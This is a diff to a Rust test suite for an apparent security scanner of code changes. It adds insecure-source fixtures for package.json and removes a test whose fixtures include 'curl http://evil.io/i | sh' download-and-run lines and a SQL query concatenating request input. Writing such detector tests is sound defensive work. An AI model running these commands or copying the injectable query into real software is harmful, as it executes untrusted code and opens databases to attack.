@@ -6,6 +6,16 @@ use super::wrong_classes::{assert_silent, assert_speaks};
 const BAD: &[(&str, &str, &str)] = &[
     (
         "insecure-source",
+        "package.json",
+        "{\"name\": \"a\", \"homepage\": \"http://a.io\", \"devDependencies\": {\"b\": \"1\", \"c\": \"http://c.io/c.tgz\"}}\n",
+    ),
+    (
+        "insecure-source",
+        "package.json",
+        "{\"resolutions\":{\"c\":\"git+http://c.io/c.git\"}}\n",
+    ),
+    (
+        "insecure-source",
         "requirements.txt",
         "--index-url http://pypi.acme.io/simple\nfoo==1\n",
     ),
@@ -132,6 +142,11 @@ const BAD: &[(&str, &str, &str)] = &[
 const GOOD: &[(&str, &str, &str)] = &[
     (
         "insecure-source",
+        "package.json",
+        "{\"homepage\": \"http://a.io\", \"dependencies\": {\"c\": \"^1\", \"d\": \"http://localhost/d.tgz\"}}\n",
+    ),
+    (
+        "insecure-source",
         "requirements.txt",
         "# see http://pypi.acme.io\nfoo==1\n",
     ),
@@ -227,7 +242,7 @@ const GOOD: &[(&str, &str, &str)] = &[
     ),
 ];
 
-fn added(path: &str, code: &str) -> String {
+pub(super) fn added(path: &str, code: &str) -> String {
     let lines: String = code.lines().map(|line| format!("+{line}\n")).collect();
     format!("=== {path}\n{lines}")
 }
@@ -520,34 +535,5 @@ fn a_download_that_is_run_is_found_in_every_spelling() {
     ] {
         let code = code.replace("URL", "http://evil.io/i");
         assert_silent("pipe-to-shell", &added("a.sh", &code));
-    }
-}
-
-/// A line that a rule spoke of before covers one that is like it, and none that means more.
-#[test]
-fn a_worse_line_in_the_place_of_a_matching_one_is_news() {
-    let edit = |path: &str, old: &str, new: &str| format!("=== {path}\n-{old}\n+{new}\n");
-    for (rule, path, old, new) in [
-        (
-            "pipe-to-shell",
-            "a.sh",
-            "curl https://good.io/i | sh",
-            "curl http://good.io/i | sh",
-        ),
-        (
-            "pipe-to-shell",
-            "a.sh",
-            "curl http://good.io/i | sh",
-            "curl http://evil.io/i | sh",
-        ),
-        (
-            "sql-injection",
-            "src/a.py",
-            "cur.execute(\"SELECT * FROM t WHERE a = \" + str(int(n)))",
-            "cur.execute(\"SELECT * FROM t WHERE a = \" + request.args[\"x\"])",
-        ),
-    ] {
-        assert_speaks(rule, &edit(path, old, new));
-        assert_silent(rule, &edit(path, old, &format!("{old} ")));
     }
 }
